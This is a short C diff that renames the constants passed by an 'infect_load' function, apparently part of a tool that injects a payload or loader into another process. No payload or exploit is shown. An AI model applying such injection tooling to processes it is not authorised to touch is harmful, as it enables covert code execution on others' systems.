@@ -146,6 +146,6 @@ static int map_payload(struct infecting *in)
 /* 7. */
 int infect_load(struct infecting *in)
 {
-	return in->bare ? infect_with_borrowed(in, VICTIM_SYSCALLS, map_payload) :
-		infect_with_borrowed(in, VICTIM_LOAD, call_loader);
+	return in->bare ? infect_with_borrowed(in, LOAN_SYSCALLS, map_payload) :
+		infect_with_borrowed(in, LOAN_LOAD, call_loader);
 }
